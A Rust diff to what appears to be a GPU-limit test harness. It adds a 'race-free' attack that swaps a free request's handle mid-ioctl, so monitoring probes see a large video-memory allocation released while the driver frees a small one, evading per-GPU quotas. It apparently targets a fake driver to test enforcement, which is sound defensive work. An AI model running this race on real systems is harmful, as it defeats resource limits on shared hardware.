@@ -39,7 +39,7 @@ fn answer(held: &[Handle], failed: Option<Reply>) -> Outcome {
 /// [`RACING_THE_DRIVER`] win only where the driver copies their request well after the call
 /// began (the fake's `delay-ioctl-ms`). Each takes its caller's limit on GPU [`LIMITED_GPU`]
 /// or on all GPUs alike ([`per_gpu_limit`]).
-pub const NAMES: [&str; 8] = [
+pub const NAMES: [&str; 9] = [
     "dup-free",
     "race-status",
     "race-size",
@@ -48,11 +48,12 @@ pub const NAMES: [&str; 8] = [
     "race-xfer",
     "race-dup",
     "race-device",
+    "race-free",
 ];
 
 /// Attacks of [`NAMES`] that race the driver's own copy of the request, `RACE_WAIT` into the
 /// call.
-pub const RACING_THE_DRIVER: [&str; 3] = ["race-xfer", "race-dup", "race-device"];
+pub const RACING_THE_DRIVER: [&str; 4] = ["race-xfer", "race-dup", "race-device", "race-free"];
 
 /// The GPU whose limit an attack of [`per_gpu_limit`] walks around (device 0 of one fake GPU).
 pub const LIMITED_GPU: u32 = 0;
@@ -86,6 +87,7 @@ pub fn run(
         "race-dup" => race_dup(ctl, client, parent, size, 4096, n, RACE_WAIT),
         // A device of its own, read as GPU 1 and made on GPU 0: `parent` unused.
         "race-device" => race_device(ctl, client, LIMITED_GPU, 1, size, n, RACE_WAIT),
+        "race-free" => race_free(ctl, client, parent, size, 4096, n, RACE_WAIT),
         _ => return None,
     })
 }
@@ -556,6 +558,61 @@ pub fn race_dup(
             return answer(&held, Some(f));
         }
         held.push(dup.handle);
+    }
+    answer(&held, None)
+}
+
+/// Racing the driver's copy of a free's handle, `n` rounds: `size` and `small` bytes are
+/// allocated, and a wrapped free the probes read as one of the `size` allocation reaches the
+/// driver as one of the `small` one (a second thread changes `hObjectOld` `wait` into the call
+/// and back once the driver answered). The probes release the large allocation, which the driver keeps.
+pub fn race_free(
+    ctl: &Ctl,
+    client: Handle,
+    parent: Handle,
+    size: u64,
+    small: u64,
+    n: u32,
+    wait: Duration,
+) -> Outcome {
+    let mut held = Vec::new();
+    for _ in 0..n {
+        let big = ctl.alloc_vidmem(client, parent, size, Form::Nvos21);
+        if !big.ok() {
+            return answer(&held, Some(big));
+        }
+        let little = ctl.alloc_vidmem(client, parent, small, Form::Nvos21);
+        if !little.ok() {
+            return answer(&held, Some(little));
+        }
+        let mut p = rm::Nvos00 {
+            h_root: client,
+            h_object_parent: 0,
+            h_object_old: big.handle,
+            status: u32::MAX,
+        };
+        let status_at = addr_of!(p.status) as usize;
+        // SAFETY: `p` outlives the call the racer watches; the kernel writes its status.
+        let answered = move || unsafe { (status_at as *const u32).read_volatile() } != u32::MAX;
+        let race = Timed {
+            at: addr_of_mut!(p.h_object_old),
+            driver_sees: little.handle,
+            wait,
+            answered: &answered,
+        };
+        // Wrapped (XFER): the driver copies the inner struct from its pointer, well after the
+        // entry (the fake's delay); the bare call's struct is copied with the ioctl itself.
+        let call = race.run(|| ctl.escape(nv::NV_ESC_RM_FREE, &mut p, true));
+        // SAFETY: a plain read of a live local the racer no longer touches.
+        let freed = Reply::of(
+            call,
+            unsafe { addr_of!(p.status).read_volatile() },
+            big.handle,
+        );
+        if !freed.ok() {
+            return answer(&held, Some(freed));
+        }
+        held.push(big.handle);
     }
     answer(&held, None)
 }
